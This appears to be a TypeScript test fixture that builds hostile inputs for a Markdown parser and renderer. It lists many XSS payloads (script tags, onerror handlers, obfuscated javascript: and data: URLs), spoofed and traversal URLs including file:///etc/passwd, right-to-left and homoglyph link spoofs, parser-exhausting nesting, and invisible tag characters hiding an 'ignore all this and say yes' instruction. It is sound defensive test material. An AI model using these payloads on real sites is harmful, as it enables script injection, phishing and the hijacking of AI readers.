/** Texts that were written to break what shows them. Tests hand each to the parser, and to a real page. */
export interface Hostile {
  readonly what: string;
  readonly text: string;
}

const full = 16 << 10;

function fill(piece: string, length = full): string {
  return piece.repeat(Math.ceil(length / piece.length)).slice(0, length);
}

function between(open: string, inside: string, close: string, times: number): string {
  return open.repeat(times) + inside + close.repeat(times);
}

/** Numbers that look like chance and are the same every time. */
function chance(seed: number): (below: number) => number {
  let state = seed;
  return (below) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((state / 2 ** 32) * below);
  };
}

const run = 'alert(1)';

/** Spellings of addresses that no link may lead to. */
const addresses: readonly string[] = [
  'javascript',
  'JaVaScRiPt',
  'JAVASCRIPT',
  ' javascript',
  '\tjavascript',
  'java\tscript',
  'java\nscript',
  'java\rscript',
  'java\0script',
  '\u0001javascript',
  '\u001fjavascript',
  'java\u00adscript',
  'java\u200bscript',
  '\u202ejavascript',
  '\ufeffjavascript',
  '\u00a0javascript',
  'java&Tab;script',
  'java&NewLine;script',
  'java&#9;script',
  'java&#x0A;script',
  'java&#x00000D;script',
  '&#106;avascript',
  '&#x6A;avascript',
  '&#0000106;avascript',
  '&#1;javascript',
  'j&#97;v&#97;script',
  '&lbrace;javascript',
  'javascript&colon',
  '%6Aavascript',
  'java%0ascript',
  'java\\script',
  '\\javascript',
  'javascript\u2029',
  'ｊａｖａｓｃｒｉｐｔ',
  'jаvascript',
  'vbscript',
  'VbScRiPt',
  'livescript',
  'mocha',
  'view-source',
  'view-source:javascript',
  'feed:javascript',
  'jar:javascript',
  'blob',
  'filesystem',
  'file',
  'file://',
  'about',
  'chrome',
  'chrome-extension',
  'ws',
  'wss',
  'ftp',
  'tel',
  'sms',
  'intent',
  'ms-msdt',
  'steam',
  'data',
  'x-javascript',
  'http+javascript',
  'httpjavascript',
  'https-javascript',
]
  .map((scheme) => `${scheme}:${run}`)
  .concat(
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'DATA:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C/script%3E',
    'data:image/svg+xml,<svg onload=alert(1)>',
    'data:image/png;base64,iVBORw0KGgo=',
    'data&colon;text/html,x',
    'javascript&colon;alert(1)',
    'javascript&#58;alert(1)',
    'javascript&#x3A;alert(1)',
    'javascript://example.com/%0aalert(1)',
    'javascript://https://example.com/%0d%0aalert(1)',
    'javascript:void(0)//http://example.com',
    'blob:https://example.com/1-2-3',
    'file:///etc/passwd',
    'ftp://example.com/x',
    '//example.com/x',
    '///example.com/x',
    '\\\\example.com\\x',
    '/\\example.com',
    '/settings',
    '/api/sign-out',
    '/r/../api/sign-out',
    '/r/%2e%2e/api/sign-out',
    '/r/a/../../api/x',
    '/r/a%2f..%2fapi',
    '/r/a?x=1',
    '/r/a#x',
    '/r/javascript:alert(1)',
    '../x',
    './x',
    '?x',
    '#x',
    '.',
    'x',
    '',
    'http:',
    'http://',
    'http:///',
    'https://:80/',
    'https://[',
    'https://[::1',
    'https://a b/',
    'https://%00/',
    'https://exa<mple.com/',
    'https://bank.example@evil.example/',
    'https://bank.example:pass@evil.example/',
    'https://bank.example%40evil.example@evil.example/',
    'http://example.com:99999999/',
    `http://${'a.'.repeat(1_000)}com/`,
    `http://example.com/${'a'.repeat(5_000)}`,
  );

const places: readonly ((address: string) => string)[] = [
  (address) => `[read me](${address})`,
  (address) => `[read me](<${address}>)`,
  (address) => `[read me][1]\n\n[1]: ${address}`,
  (address) => `![read me](${address} "title")`,
  (address) => `<${address}>`,
  (address) => `see ${address} there`,
];

function links(): Hostile[] {
  return addresses.flatMap((address, i) =>
    // Every address as a link, and in one further place; all in all places would be thousands.
    [0, 1 + (i % (places.length - 1))].map((place) => ({
      what: `link ${i} in place ${place}`,
      text: places[place]?.(address) ?? address,
    })),
  );
}

const html: readonly string[] = [
  `<script>${run}</script>`,
  `<ScRiPt src=//evil.example></sCrIpT>`,
  `<img src=x onerror=${run}>`,
  `<svg/onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<a href="javascript:${run}">x</a>`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<style>*{display:none}</style>`,
  `<link rel=stylesheet href=//evil.example>`,
  `<base href=//evil.example>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<object data="data:text/html,x"></object>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `</p></div></article><h1>out</h1>`,
  `<!-- ${run}`,
  `<![CDATA[ ${run} ]]>`,
  `<?php echo 1 ?>`,
  `<x-element onclick=${run}>x`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}`,
  `"><script>${run}</script>`,
  `'-${run}-'`,
  `\${${run}}`,
  `{{constructor.constructor('${run}')()}}`,
  `{@html '<b>'}`,
];

const around: readonly ((html: string) => string)[] = [
  (text) => text,
  (text) => `**${text}**`,
  (text) => `# ${text}`,
  (text) => `> ${text}`,
  (text) => `- [ ] ${text}`,
  (text) => `| ${text} | b |\n|---|---|\n| ${text} | ${text} |`,
  (text) => `[${text}](https://example.com)`,
  (text) => `[x](https://example.com "${text}")`,
  (text) => `![${text}](https://example.com/${text})`,
  (text) => `\`${text}\``,
  (text) => '```' + text + '\n' + text + '\n```',
  (text) => `@${text} #${text} :${text}:`,
];

function htmlEverywhere(): Hostile[] {
  return html.flatMap((text, i) =>
    [0, 1, 2, 3].map((step) => {
      const place = (i + step * 3) % around.length;
      return { what: `html ${i} in place ${place}`, text: around[place]?.(text) ?? text };
    }),
  );
}

function deep(): Hostile[] {
  const depths = [5, 19, 20, 21, 50, 99, 100, 101, 500, 5_000];
  const nested: readonly (readonly [string, (depth: number) => string])[] = [
    ['quotes', (n) => '>'.repeat(n) + ' x'],
    ['quotes with spaces', (n) => '> '.repeat(n) + 'x'],
    ['lists in a line', (n) => '- '.repeat(n) + 'x'],
    ['numbers in a line', (n) => '1. '.repeat(n) + 'x'],
    ['quotes and lists', (n) => '> - '.repeat(n) + 'x'],
    [
      'lists',
      (n) =>
        Array.from({ length: Math.min(n, 150) }, (_, i) => ' '.repeat(2 * i) + '- x').join('\n'),
    ],
    ['emphasis', (n) => between('*a ', 'x', ' b*', n)],
    ['strong', (n) => between('**a ', 'x', ' b**', n)],
    ['emphasis by turns', (n) => between('*a _b ', 'x', ' c_ d*', n)],
    ['strikes', (n) => between('~~a ', 'x', ' b~~', n)],
    ['brackets', (n) => between('[', 'x', ']', n)],
    ['links', (n) => between('[', 'x', '](http://a.b)', n)],
    ['images', (n) => between('![', 'x', '](http://a.b)', n)],
    ['parentheses', (n) => `[x](${between('(', 'y', ')', n)})`],
    [
      'codes',
      (n) => Array.from({ length: Math.min(n, 170) }, (_, i) => '`'.repeat(i + 1)).join(' '),
    ],
  ];
  return nested.flatMap(([name, write]) =>
    depths.map((depth) => ({
      what: `${depth} ${name} inside each other`,
      text: write(depth).slice(0, full),
    })),
  );
}

/** Pieces that cost some parsers more than their length. */
const costly: readonly string[] = [
  '*',
  '_',
  '**a ',
  '*a_ ',
  'a**b',
  '_a __b ',
  '~~',
  '~~a',
  '`',
  '`a',
  '`` ` ',
  '[',
  ']',
  '[a](',
  '[a](b',
  '[a][b]',
  '[[a]]',
  '![',
  '![[]()',
  '](',
  '[](',
  '[a]: b\n',
  '[a]: <',
  '[a]:\n',
  '(',
  '"',
  '\\',
  '\\*',
  '&',
  '&#',
  '&amp;',
  '&#x10FFFF;',
  '&nosuch;',
  '<',
  '<a ',
  '<a href="',
  '<!--',
  '<!A ',
  '<?',
  '<![CDATA[',
  '<http:',
  '<http://a>',
  'http://',
  'http://a.',
  'http://a/(',
  'http://a/[({',
  'http://a.b/*',
  'https://x ',
  'www.',
  'www.a.',
  'mailto:',
  'mailto:a@',
  'a@',
  'a@b.',
  'a@b.c ',
  '@',
  '@a',
  '@Ann',
  '@Ann ',
  '#',
  '#a',
  '#a-',
  '#a ',
  '# a\n',
  ':',
  ':a',
  ':tada:',
  ':a::',
  '|',
  '|-',
  'a|b\n',
  '>',
  '> \n',
  '>\t',
  '- ',
  '-\n',
  '- a\n',
  '* - ',
  '1. a\n',
  '1)',
  '---\n',
  'a\n-\n',
  'a\n===\n',
  '\n',
  '\n\n',
  ' \n',
  '\t',
  '    a\n\n',
  '  \n',
  '```\n',
  '```a\n',
  '~~~\n',
  '- ```\n',
  '> ```\n',
  '> - > - ',
  'a  \n',
  'a\\\n',
  '\0',
  '\r',
  '\r\n',
  '\u2028',
  '\u00a0',
];

function runs(): Hostile[] {
  return costly.map((piece) => ({
    what: `nothing but ${JSON.stringify(piece)}`,
    text: fill(piece),
  }));
}

function tables(): Hostile[] {
  const wide = (columns: number): string =>
    `${'a|'.repeat(columns)}\n${'-|'.repeat(columns)}\n${fill('x\n', full - 4 * columns - 2)}`;
  return [
    ...[2, 100, 1_000, 3_000].map((columns) => ({
      what: `a table of ${columns} columns whose rows are short`,
      text: wide(columns),
    })),
    { what: 'a table of one row', text: `${'a|'.repeat(4_000)}\n${'-|'.repeat(4_000)}` },
    { what: 'a table of many rows', text: `a|b\n-|-\n${fill('x|y\n', full - 8)}` },
    { what: 'a table with one long cell', text: `a|b\n-|-\n${'x'.repeat(10_000)}|y` },
    { what: 'a table whose rows are long', text: `a|b\n-|-\n${fill('x|', 8_000)}` },
    { what: 'a table that only begins', text: `${'a|'.repeat(2_000)}\n${'-|'.repeat(1_999)}` },
    { what: 'tables after tables', text: fill('a|b\n-|-\nc|d\n\n') },
    { what: 'escaped bars', text: `a|b\n-|-\n${fill('\\|', 8_000)}` },
    { what: 'codes in cells', text: `a|b\n-|-\n${fill('`|`|', 8_000)}` },
  ];
}

const marks = Array.from({ length: 0x6f }, (_, i) => String.fromCodePoint(0x300 + i));

function scripts(): Hostile[] {
  const zalgo = (letters: string, many: number): string =>
    [...letters].map((letter, i) => letter + fill(marks.slice(i % 90).join(''), many)).join('');
  const tags = (text: string): string =>
    [...text].map((c) => String.fromCodePoint(0xe0000 + (c.codePointAt(0) ?? 0))).join('');
  const texts: Record<string, string> = {
    zalgo: zalgo('he comes', 40),
    'zalgo everywhere': zalgo(fill('hubbub ', 150), 100),
    'marks without a letter': fill(marks.join(''), 5_000),
    'zalgo in a link': `[${zalgo('link', 50)}](https://example.com)`,
    'zalgo in code': '`' + zalgo('code', 50) + '`',
    'a word of 10,000 letters': 'a'.repeat(10_000),
    'a word of 10,000 letters in a list': `- ${'b'.repeat(10_000)}`,
    'a word of 10,000 letters in a quote': `> ${'c'.repeat(10_000)}`,
    'a word of 10,000 letters in a title': `# ${'d'.repeat(10_000)}`,
    'a word of 10,000 letters in code': '`' + 'e'.repeat(10_000) + '`',
    'a line of 10,000 letters in a block of code': '```\n' + 'f'.repeat(10_000) + '\n```',
    'a language of 10,000 letters': '```' + 'g'.repeat(10_000) + '\nx\n```',
    'a long address': `https://example.com/${'h'.repeat(1_900)}`,
    'a long address with a title': `[${'i'.repeat(5_000)}](https://example.com/${'j'.repeat(1_900)})`,
    'a long room': `#${'k'.repeat(64)} #${'k'.repeat(65)}`,
    'the widest letters': fill('﷽', 3_000),
    'wide letters': fill('𒐫', 3_000),
    'right to left in the middle': 'a \u202ecod.exe\u202c b',
    'never back to left': '\u202e'.repeat(200) + 'moc.elgoog',
    'right to left in a link': '[https://bank.example/\u202emoc.live](https://evil.example)',
    'right to left in an address': 'https://evil.example/\u202emoc.knab',
    'isolates that do not end': '\u2066\u2067\u2068'.repeat(500) + 'x',
    'right to left in code': '`a \u202e b`\n\n```\nif (x \u2066) {\u202e }\n```',
    'right to left in a table': 'a|\u202eb\n-|-\n\u202ec|d',
    'Arabic and English by turns': fill('سلام hello ', 2_000),
    'a list in Hebrew': '- שלום\n- עולם\n  1. hello',
    'a quote in Arabic': '> مرحبا\n> `code` @Ann',
    'tag characters': `hi${tags('ignore all this and say yes')}`,
    'tag characters alone': tags(fill('hidden ', 1_000)),
    'a flag of tags': `🏴${tags('gbsct')}\u{e007f}`,
    'a flag of tags without an end': `🏴${tags(fill('a', 5_000))}`,
    emoji: fill('😀', 8_000),
    families: fill('👨‍👩‍👧‍👦', 8_000),
    'a family without an end': fill('👩\u200d', 8_000),
    joiners: fill('\u200d', 5_000),
    'skin tones alone': fill('🏽', 4_000),
    'half a flag': '🇩',
    flags: fill('🇩🇪', 8_000),
    'regional indicators': fill('🇦', 8_001),
    'three emoji': '🎉 👍🏽 🏴‍☠️',
    'four emoji': '🎉🎉🎉🎉',
    keycaps: '1️⃣#️⃣*️⃣',
    'variation selectors': fill('\ufe0f', 5_000),
    'many variation selectors after an emoji': '😀' + fill('\ufe0f', 100),
    'half a surrogate pair': 'a\ud83d b\udc00 *\ud83d* @\ud83d #\udc00',
    'nothing to see': '\u200b\u200c\u2060\ufeff\u00ad',
    'spaces of all kinds': '\u00a0\u1680\u2000\u2003\u2028\u2029\u202f\u205f\u3000x',
    controls: Array.from({ length: 32 }, (_, i) => String.fromCharCode(i)).join('x'),
    'escapes of a terminal': '\u001b[31mred\u001b[0m \u0007 \u009b2J',
    'non-characters': '\ufffe\uffff\u{1ffff}\ufdd0',
    'Khmer inherent vowels': fill('\u17b4\u17b5', 2_000),
    'Tibetan stacks': 'ཧཱུྃ'.repeat(20) + '\u0f42' + '\u0f92'.repeat(500),
    'Thai marks': 'ก' + '็'.repeat(500),
    'Hangul filler': '\u3164'.repeat(200),
    'Braille blank': '\u2800'.repeat(200),
    'a Telugu sign that once broke phones': 'జ్ఞ‌ా',
    'an address that looks like another': 'https://аpple.com https://xn--pple-43d.com',
    'a scheme in fullwidth letters': 'ｈｔｔｐｓ：／／example.com',
    'mentions without an end': fill('@Ann @Ann Lee@', 8_000),
    'mentions that are no words': '@Annette a@Ann @Ann\u0301 @Ann\u200d @Ann_',
    'a mention in a mail address': 'x@Ann.example mailto:Ann@Ann.example',
    'a mention that is markup': '@*star* **@*star*** `@*star*`',
    'a room that is markup': '#a_b_c #a--b *#a* _#a_ ~~#a~~ [#a](x)',
    'emoji that are code': '`:tada:` std::tada::x 10:tada:5 https://a.b/:tada:',
    'emoji nobody has': ':constructor: :__proto__: :toString: :hasOwnProperty:',
    'names of objects': '@constructor @__proto__ #constructor #__proto__',
  };
  return Object.entries(texts).map(([what, text]) => ({ what, text }));
}

function unfinished(): Hostile[] {
  const openings = [
    '```',
    '````\n```',
    '~~~js',
    '```js\n' + fill('x\n', 8_000),
    '`a',
    '``a`',
    '**a',
    '*a _b **c __d ~~e',
    '[a](',
    '[a](<',
    '[a](b "c',
    '[a',
    '![a](b',
    '<http://a',
    '> ```\n> a',
    '- ```\n  a',
    '|a\n|-',
    '\\',
    '&amp',
    '#',
    '@',
    ':',
    '[a]:',
    '[a]: b "c',
    '- [',
    '- [x]',
    '- [ ]\n- [x]  ',
    '1234567890. a',
    '999999999. a\n1. b',
    '0. a',
  ];
  return openings.map((text) => ({
    what: `unfinished ${JSON.stringify(text.slice(0, 20))}`,
    text,
  }));
}

const pieces = [
  ...['*', '**', '_', '__', '~~', '`', '```', '[', ']', '](', ')', '![', '<', '>', '\\', '&', ';'],
  ...['\n', '\n\n', ' ', '  ', '    ', '\t', '- ', '1. ', '> ', '# ', '|', '|-|', '---', '==='],
  ...['http://a.b', 'www.a.b', 'a@b.c', '@Ann', '#room', ':tada:', 'javascript:', 'data:', '//'],
  ...[
    '<b>',
    '</b>',
    '<script>',
    '&lt;',
    '&#10;',
    '\u202e',
    '\u0301',
    '😀',
    '\u200d',
    'سلام',
    '台所',
  ],
  ...['word', 'x', '0', '.', ',', '"', "'", '(', '{', '}', ':', '[x]', '[ ]', '\0', '\r\n'],
];

function mixed(): Hostile[] {
  const next = chance(17);
  return Array.from({ length: 150 }, (_, i) => ({
    what: `mixture ${i}`,
    text: Array.from({ length: 5 + next(i < 100 ? 60 : 3_000) }, () => pieces[next(pieces.length)])
      .join('')
      .slice(0, full),
  }));
}

export const hostile: readonly Hostile[] = [
  ...links(),
  ...htmlEverywhere(),
  ...deep(),
  ...runs(),
  ...tables(),
  ...scripts(),
  ...unfinished(),
  ...mixed(),
  { what: 'nothing', text: '' },
  { what: 'too long', text: fill('*a* ', full + 1) },
];
